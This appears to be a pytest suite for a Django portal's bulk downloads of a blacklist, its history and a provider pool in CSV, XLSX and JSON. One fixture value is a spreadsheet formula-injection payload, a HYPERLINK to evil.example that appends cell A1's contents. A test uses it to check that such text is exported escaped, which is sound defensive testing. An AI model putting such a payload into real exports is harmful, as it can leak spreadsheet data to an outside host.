"""Bulk downloads (issue 6 part 3): the blacklist, its history and the resource pool as CSV, XLSX and JSON.

Each file holds what the public pages show, carries its generation time, escapes formula-like text for
spreadsheets, is cached until public data change, and is read with a fixed number of queries."""

import re
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.conf import settings
from django.core.cache import cache
from django.urls import reverse

from enterprises.models import ContractStatus
from evaluations import services
from evaluations.models import BlacklistEntry
from opendata.downloads import DATASETS, escape_formula
from providers.models import ProviderStatus
from tangshan_portal.roles import Role
from tests.enforcement import SHANGHAI, at, travel
from tests.factories import PilotEnterpriseFactory, ProviderFactory, UserFactory
from tests.factories_contracts import ProductFactory
from tests.factories_downloads import (
    blacklist_entry,
    body,
    contract,
    pool_provider,
    read_csv,
    read_json,
    read_xlsx,
)

pytestmark = pytest.mark.django_db

SLUGS = ("blacklist", "blacklist-history", "providers")
CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "json": "application/json; charset=utf-8",
}
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


@pytest.fixture(autouse=True)
def _empty_cache():
    # The local-memory cache outlives a test's database rollback, and SQLite hands out the same PublicChange ids
    # again: without this a test could read the files cached by the one before.
    cache.clear()
    yield
    cache.clear()


def url(slug, fmt):
    return reverse("downloads:file", kwargs={"slug": slug, "fmt": fmt})


def rows_of(response, fmt):
    """The data rows of any format as lists of text: the first column of CSV and XLSX, the items of JSON."""
    if fmt == "csv":
        return read_csv(response)[1:]
    if fmt == "xlsx":
        sheet = read_xlsx(response).worksheets[0]
        return [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    return read_json(response)["items"]


def names_in(response, fmt, key="provider_name"):
    rows = rows_of(response, fmt)
    return [row[key] for row in rows] if fmt == "json" else [row[0] for row in rows]


# --- URLs, types, names, parsing ------------------------------------------------------------------------------


def test_the_urls():
    assert reverse("downloads:index") == "/downloads/"
    assert url("blacklist", "csv") == "/downloads/blacklist.csv"
    assert url("blacklist-history", "xlsx") == "/downloads/blacklist-history.xlsx"
    assert url("providers", "json") == "/downloads/providers.json"
    assert reverse("downloads:ocds") == "/downloads/contracts-ocds.json"


@pytest.mark.parametrize("path", ["/downloads/other.csv", "/downloads/blacklist.pdf", "/downloads/blacklist.CSV"])
def test_unknown_datasets_and_formats_answer_404(client, path):
    assert client.get(path).status_code == 404


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_each_file_answers_with_its_type_a_stamped_name_and_parses(client, slug, fmt):
    blacklist_entry(name="在列科技有限公司")
    blacklist_entry(name="已移出科技有限公司", status=BlacklistEntry.Status.REMOVED)
    pool_provider(name="资源池科技有限公司")
    with travel(at(2026, 11, 29, 12, 30)):
        response = client.get(url(slug, fmt))
    assert response.status_code == 200
    assert response["Content-Type"] == CONTENT_TYPES[fmt]
    assert response["Content-Disposition"] == f'attachment; filename="{slug}-20261129T1230+0800.{fmt}"'
    assert response["X-Generated-At"] == "2026-11-29T12:30:00+08:00"
    assert response["X-Content-Type-Options"] == "nosniff"
    expected = {
        "blacklist": "在列科技有限公司",
        "blacklist-history": "已移出科技有限公司",
        "providers": "资源池科技有限公司",
    }
    key = "name" if slug == "providers" else "provider_name"
    assert names_in(response, fmt, key) == [expected[slug]]


def test_csv_is_streamed_with_a_byte_order_mark_and_a_header_row(client):
    blacklist_entry(name="唐山测试科技有限公司")
    response = client.get(url("blacklist", "csv"))
    assert response.streaming
    data = body(response)
    assert data.startswith(b"\xef\xbb\xbf")
    assert "唐山测试科技有限公司".encode() in data
    header = read_csv(client.get(url("blacklist", "csv")))[0]
    assert header == [str(column.label) for column in DATASETS["blacklist"].columns]
    assert not header[0].startswith("#")  # no comment line: the time is in the name and the header


def test_json_envelope(client):
    blacklist_entry()
    blacklist_entry()
    with travel(at(2026, 11, 29, 12, 30)):
        data = read_json(client.get(url("blacklist", "json")))
    assert data["generated_at"] == "2026-11-29T12:30:00+08:00"
    assert data["source"] == settings.PORTAL_AUTHORITY_NAME
    assert data["dataset"] == "blacklist"
    assert data["count"] == len(data["items"]) == 2
    assert "第十三条" in data["legal_basis"]
    assert "在局官网上予以公告" in data["legal_basis"]


def test_xlsx_header_is_bold_and_frozen_with_widths_and_an_about_sheet(client):
    blacklist_entry(name="唐山表格科技有限公司")
    with travel(at(2026, 11, 29, 12, 30)):
        workbook = read_xlsx(client.get(url("blacklist", "xlsx")))
    sheet, about = workbook.worksheets
    assert sheet.freeze_panes == "A2"
    header = next(sheet.iter_rows(max_row=1))
    assert [cell.value for cell in header] == [str(c.label) for c in DATASETS["blacklist"].columns]
    assert all(cell.font.b for cell in header)
    assert sheet.column_dimensions["A"].width == DATASETS["blacklist"].columns[0].width
    assert sheet.column_dimensions["D"].width == DATASETS["blacklist"].columns[3].width
    assert sheet.auto_filter.ref == "A1:K2"
    facts = {row[0]: row[1] for row in about.iter_rows(values_only=True)}
    assert "2026-11-29T12:30:00+08:00" in facts.values()
    assert settings.PORTAL_AUTHORITY_NAME in facts.values()
    assert 1 in facts.values()  # the row count
    # Dates and times are real spreadsheet values, not text.
    row = list(next(sheet.iter_rows(min_row=2, max_row=2)))
    decided = row[5]
    assert decided.is_date and decided.number_format == "yyyy-mm-dd"


# --- What each file holds: the pages' rules ---------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_blacklist_holds_published_and_under_appeal_entries_newest_first(client, fmt):
    older = blacklist_entry(name="较早科技有限公司", decided_on=date(2026, 3, 1))
    appealed = blacklist_entry(
        name="申诉中科技有限公司", status=BlacklistEntry.Status.UNDER_APPEAL, decided_on=date(2026, 4, 1)
    )
    blacklist_entry(name="已移出科技有限公司", status=BlacklistEntry.Status.REMOVED, decided_on=date(2026, 5, 1))
    response = client.get(url("blacklist", fmt))
    assert names_in(response, fmt) == [appealed.provider_name, older.provider_name]
    if fmt == "json":
        item = read_json(client.get(url("blacklist", fmt)))["items"][0]
        assert item["status"] == "under_appeal"
        assert item["decision_number"] == appealed.decision_number
        assert item["uscc"] == appealed.uscc
        assert item["decided_on"] == "2026-04-01"
        assert item["ground"] == 4
        assert item["url"] == f"http://testserver/blacklist/{appealed.pk}/"


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_history_holds_only_removed_entries_with_date_and_reason(client, fmt):
    blacklist_entry(name="在列科技有限公司")
    removed = blacklist_entry(name="已移出科技有限公司", status=BlacklistEntry.Status.REMOVED)
    response = client.get(url("blacklist-history", fmt))
    assert names_in(response, fmt) == [removed.provider_name]
    text = body(client.get(url("blacklist-history", fmt)))
    if fmt != "xlsx":
        assert "申诉成立".encode() in text


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_providers_holds_pool_members_only(client, fmt):
    members = [
        pool_provider(name="甲在池科技有限公司"),
        pool_provider(name="乙警示科技有限公司", status=ProviderStatus.WARNED),
        pool_provider(name="丙整改科技有限公司", status=ProviderStatus.UNDER_RECTIFICATION),
    ]
    for status in (ProviderStatus.APPLIED, ProviderStatus.REJECTED, ProviderStatus.REVOKED, ProviderStatus.WITHDRAWN):
        pool_provider(name=f"池外{status}科技有限公司", status=status)
    response = client.get(url("providers", fmt))
    # The directory's order: by name.
    assert names_in(response, fmt, "name") == sorted(p.name for p in members)


def test_provider_row_has_type_counties_scenarios_and_products_with_prices(client):
    served_in = PilotEnterpriseFactory(county__code="130209")
    provider = pool_provider(
        name="唐山全量科技有限公司",
        county__code="130202",
        scenarios=("equipment-retrofit", "smart-management"),
        products=(("MES 系统", "120000.00"), ("设备联网网关", "3500.50")),
        contact_name="王联系",
        contact_phone="13800000000",
    )
    ProductFactory(provider=provider, name="已下架产品", is_active=False)
    contract(provider=provider, enterprise=served_in, status=ContractStatus.IN_PROGRESS)
    contract(provider=provider, enterprise=PilotEnterpriseFactory(county__code="130281"), status=ContractStatus.DRAFT)

    item = read_json(client.get(url("providers", "json")))["items"][0]
    assert item["name"] == "唐山全量科技有限公司"
    assert item["uscc"] == provider.uscc
    assert item["provider_type"] == "integrated"
    assert item["county"] == {"code": "130202", "name": "路南区"}
    assert [s["code"] for s in item["scenarios"]] == ["equipment-retrofit", "smart-management"]
    # Only signed contracts count: the draft's county (遵化市) is not served yet.
    assert item["counties_served"] == [{"code": "130209", "name": "曹妃甸区"}]
    assert item["products"] == [
        {"name": "MES 系统", "unit": "套", "list_price": 120000.0},
        {"name": "设备联网网关", "unit": "套", "list_price": 3500.5},
    ]

    row = dict(zip(*read_csv(client.get(url("providers", "csv"))), strict=True))
    assert row[str(DATASETS["providers"].columns[3].label)] == "路南区"
    assert row[str(DATASETS["providers"].columns[5].label)] == "曹妃甸区"
    products = row[str(DATASETS["providers"].columns[6].label)]
    assert "MES 系统" in products and "120000.00" in products and "3500.50" in products
    assert "已下架产品" not in products

    for fmt in ("csv", "xlsx", "json"):
        data = body(client.get(url("providers", fmt)))
        for personal in ("王联系", "13800000000", "张伟"):  # contact person, phone, legal representative
            assert personal.encode() not in data, (fmt, personal)


@pytest.mark.parametrize("slug", SLUGS)
def test_counts_match_the_selectors_of_the_pages(client, slug):
    for _ in range(3):
        blacklist_entry()
    for _ in range(2):
        blacklist_entry(status=BlacklistEntry.Status.REMOVED)
    blacklist_entry(status=BlacklistEntry.Status.UNDER_APPEAL)
    for _ in range(4):
        pool_provider()
    pool_provider(status=ProviderStatus.APPLIED)
    expected = {"blacklist": 4, "blacklist-history": 2, "providers": 4}[slug]
    assert DATASETS[slug].count() == expected
    assert read_json(client.get(url(slug, "json")))["count"] == expected
    assert len(rows_of(client.get(url(slug, "csv")), "csv")) == expected
    assert len(rows_of(client.get(url(slug, "xlsx")), "xlsx")) == expected
    index = client.get(reverse("downloads:index"))
    assert [d["count"] for d in index.context["datasets"] if d["dataset"].slug == slug] == [expected]


# --- Formula escaping ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 315", "'+86 315"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("唐山=科技", "唐山=科技"),
        ("", ""),
    ],
)
def test_escape_formula(text, expected):
    assert escape_formula(text) == expected


def test_a_provider_named_like_a_formula_is_exported_as_text(client):
    blacklist_entry(name=EVIL_NAME)
    provider = pool_provider(name="@SUM(1+1)", products=(("-2+3", "10.00"),))
    pool_provider(name="#N/A 科技有限公司")

    assert read_csv(client.get(url("blacklist", "csv")))[1][0] == "'" + EVIL_NAME
    cell = read_xlsx(client.get(url("blacklist", "xlsx"))).worksheets[0]["A2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + EVIL_NAME

    csv_rows = read_csv(client.get(url("providers", "csv")))[1:]
    by_name = {row[0]: row for row in csv_rows}
    assert by_name["'@SUM(1+1)"][6].startswith("'-2+3")
    sheet = read_xlsx(client.get(url("providers", "xlsx"))).worksheets[0]
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert cells["'@SUM(1+1)"][0].data_type == "s"
    assert cells["'@SUM(1+1)"][6].value.startswith("'-2+3")
    # An error code is text too, not an Excel error value.
    assert cells["#N/A 科技有限公司"][0].data_type == "s"

    # JSON is for programs: the data are unchanged.
    assert read_json(client.get(url("blacklist", "json")))["items"][0]["provider_name"] == EVIL_NAME
    items = read_json(client.get(url("providers", "json")))["items"]
    assert {i["name"] for i in items} == {provider.name, "#N/A 科技有限公司"}


# --- Caching and freshness -------------------------------------------------------------------------------------


@pytest.fixture
def long_cache(settings):
    # Longer than any travel in these tests: a fresh file can only come from a new data version.
    settings.PUBLIC_CACHE_SECONDS = 86400


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_repeated_downloads_are_served_from_the_cache(client, long_cache, fmt, django_assert_max_num_queries):
    blacklist_entry(name="缓存科技有限公司")
    with travel(at(2026, 11, 29, 9, 0)):
        first = client.get(url("blacklist", fmt))
        first_body = body(first)
    # A hit reads only the data version (and the request's savepoint).
    with travel(at(2026, 11, 29, 9, 30)), django_assert_max_num_queries(3):
        second = client.get(url("blacklist", fmt))
        second_body = body(second)
    assert second_body == first_body
    assert second["X-Generated-At"] == first["X-Generated-At"] == "2026-11-29T09:00:00+08:00"
    assert second["Content-Disposition"] == first["Content-Disposition"]


def test_anonymous_and_logged_in_visitors_share_the_cached_file(client, long_cache):
    blacklist_entry()
    with travel(at(2026, 11, 29, 9, 0)):
        anonymous = body(client.get(url("providers", "xlsx")))
    client.force_login(UserFactory(role=Role.OFFICER))
    with travel(at(2026, 11, 29, 9, 10)):
        logged_in = client.get(url("providers", "xlsx"))
    assert body(logged_in) == anonymous
    assert logged_in["X-Generated-At"] == "2026-11-29T09:00:00+08:00"


def test_an_approved_entry_appears_in_the_next_download_although_the_last_was_cached(
    client, long_cache, officer, approver
):
    blacklist_entry(name="早先科技有限公司")
    provider = ProviderFactory(name="唐山伪造合同科技有限公司")
    with travel(at(2026, 5, 1)):
        proposal = services.revocation_propose(provider=provider, ground=5, finding="伪造服务合同", by=officer)
    before = {}
    with travel(at(2026, 5, 8, 9, 0)):
        for fmt in ("csv", "xlsx", "json"):
            response = client.get(url("blacklist", fmt))
            assert names_in(response, fmt) == ["早先科技有限公司"]
            before[fmt] = response["X-Generated-At"]
    with travel(at(2026, 5, 8, 9, 5)):
        services.revocation_approve(revocation=proposal, by=approver, reason="经核实合同系伪造")
    with travel(at(2026, 5, 8, 9, 6)):
        for fmt in ("csv", "xlsx", "json"):
            response = client.get(url("blacklist", fmt))
            assert "唐山伪造合同科技有限公司" in names_in(response, fmt), fmt
            assert response["X-Generated-At"] == "2026-05-08T09:06:00+08:00" != before[fmt]
        # The provider is revoked: it leaves the resource pool in the same step.
        assert "唐山伪造合同科技有限公司" not in names_in(client.get(url("providers", "json")), "json", "name")


def test_a_removed_entry_leaves_the_blacklist_and_appears_in_the_history(client, long_cache, officer, approver):
    provider = ProviderFactory(name="唐山申诉成立科技有限公司")
    with travel(at(2026, 5, 1)):
        proposal = services.revocation_propose(provider=provider, ground=5, finding="伪造服务合同", by=officer)
    with travel(at(2026, 5, 8)):
        services.revocation_approve(revocation=proposal, by=approver, reason="经核实合同系伪造")
        for fmt in ("csv", "xlsx", "json"):
            assert names_in(client.get(url("blacklist", fmt)), fmt) == [provider.name]
            assert names_in(client.get(url("blacklist-history", fmt)), fmt) == []
    # Within the cache's lifetime: only the new data version can make the files change.
    with travel(at(2026, 5, 8, 10, 5)):
        services.revocation_reverse(revocation=proposal, by=approver, reason="申诉成立，撤销原决定")
    with travel(at(2026, 5, 8, 10, 6)):
        for fmt in ("csv", "xlsx", "json"):
            assert names_in(client.get(url("blacklist", fmt)), fmt) == [], fmt
            assert names_in(client.get(url("blacklist-history", fmt)), fmt) == [provider.name], fmt
        item = read_json(client.get(url("blacklist-history", "json")))["items"][0]
        assert item["status"] == "removed"
        assert item["removal_reason"] == "申诉成立，撤销原决定"
        assert item["removed_at"] == "2026-05-08T10:05:00+08:00"
        # Reinstated, the provider is back in the pool.
        assert provider.name in names_in(client.get(url("providers", "json")), "json", "name")


def test_the_pool_file_follows_signed_contracts_which_write_no_public_change(client, long_cache):
    provider = pool_provider(name="唐山签约科技有限公司")
    draft = contract(
        provider=provider, status=ContractStatus.DRAFT, enterprise=PilotEnterpriseFactory(county__code="130283")
    )
    assert read_json(client.get(url("providers", "json")))["items"][0]["counties_served"] == []
    draft.status = ContractStatus.SIGNED
    draft.save()
    served = read_json(client.get(url("providers", "json")))["items"][0]["counties_served"]
    assert served == [{"code": "130283", "name": "迁安市"}]


# --- Query counts ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_queries_do_not_grow_with_the_rows(client, slug, fmt, django_assert_max_num_queries):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    counts = []
    for total in (5, 50):
        while DATASETS[slug].count() < total:
            if slug == "providers":
                provider = pool_provider(products=(("产品甲", "100.00"), ("产品乙", "200.00")))
                contract(provider=provider, items=0, milestones=0)
            else:
                status = (
                    BlacklistEntry.Status.REMOVED if slug == "blacklist-history" else BlacklistEntry.Status.PUBLISHED
                )
                blacklist_entry(status=status)
        cache.clear()
        # The request's savepoint (2), the data version (1, +1 for the pool's contract fingerprint), then one
        # SELECT per table: entries; or providers, scenarios, products, counties and counties served.
        with django_assert_max_num_queries(9), CaptureQueriesContext(connection) as queries:
            response = client.get(url(slug, fmt))
            assert len(rows_of(response, fmt)) == total
        counts.append(len(queries))
    assert counts[0] == counts[1]


def test_query_count_of_the_index_is_fixed(client, django_assert_max_num_queries):
    for _ in range(3):
        blacklist_entry()
        pool_provider()
    with django_assert_max_num_queries(10):
        assert client.get(reverse("downloads:index")).status_code == 200


# --- The index page ------------------------------------------------------------------------------------------------


def test_the_index_lists_each_dataset_with_formats_counts_time_columns_and_legal_basis(client):
    blacklist_entry()
    blacklist_entry()
    pool_provider()
    with travel(at(2026, 11, 29, 12, 30)):
        response = client.get(reverse("downloads:index"))
    assert response.status_code == 200
    html = response.content.decode()
    for slug in SLUGS:
        dataset = DATASETS[slug]
        assert str(dataset.title) in html
        for fmt in ("csv", "xlsx", "json"):
            assert f'href="/downloads/{slug}.{fmt}"' in html
        for column in dataset.columns:
            assert f'<td class="code">{column.key}</td>' in html
    assert html.count('datetime="2026-11-29T12:30:00+08:00"') == 3
    assert "在局官网上予以公告" in html
    assert "第十三条" in html
    assert 'href="/downloads/contracts-ocds.json"' in html
    assert '<th scope="col">' in html
    counts = {d["dataset"].slug: d["count"] for d in response.context["datasets"]}
    assert counts == {"blacklist": 2, "blacklist-history": 0, "providers": 1}


def test_the_index_states_the_same_generation_time_as_the_files(client, long_cache):
    blacklist_entry()
    with travel(at(2026, 11, 29, 8, 0)):
        client.get(reverse("downloads:index"))
    with travel(at(2026, 11, 29, 8, 20)):
        response = client.get(url("blacklist", "csv"))
        body(response)
        assert response["X-Generated-At"] == "2026-11-29T08:00:00+08:00"
        again = client.get(reverse("downloads:index"))
    assert 'datetime="2026-11-29T08:00:00+08:00"' in again.content.decode()


# --- Access: public data, for everyone ------------------------------------------------------------------------


@pytest.mark.parametrize("role", [None, *Role.values])
def test_everyone_may_download_and_nobody_needs_to_log_in(client, role):
    blacklist_entry(name="公开科技有限公司")
    if role:
        client.force_login(UserFactory(role=role))
    assert client.get(reverse("downloads:index")).status_code == 200
    for slug in SLUGS:
        for fmt in ("csv", "xlsx", "json"):
            response = client.get(url(slug, fmt))
            assert response.status_code == 200
            body(response)
    assert names_in(client.get(url("blacklist", "json")), "json") == ["公开科技有限公司"]


def test_only_safe_methods_are_allowed(client):
    assert client.post(reverse("downloads:index")).status_code == 405
    assert client.post(url("blacklist", "csv")).status_code == 405
    assert client.head(url("blacklist", "json")).status_code == 200


def test_the_generation_time_is_local_time_with_its_offset(client):
    blacklist_entry()
    moment = datetime(2026, 11, 29, 4, 30, tzinfo=SHANGHAI)
    with travel(moment):
        response = client.get(url("blacklist", "json"))
    assert re.fullmatch(r"2026-11-29T04:30:00\+08:00", read_json(response)["generated_at"])
    assert response["Content-Disposition"].endswith('blacklist-20261129T0430+0800.json"')


def test_money_is_a_number_in_json(client):
    pool_provider(products=(("网关", "3500.50"),))
    product = read_json(client.get(url("providers", "json")))["items"][0]["products"][0]
    assert product["list_price"] == float(Decimal("3500.50"))
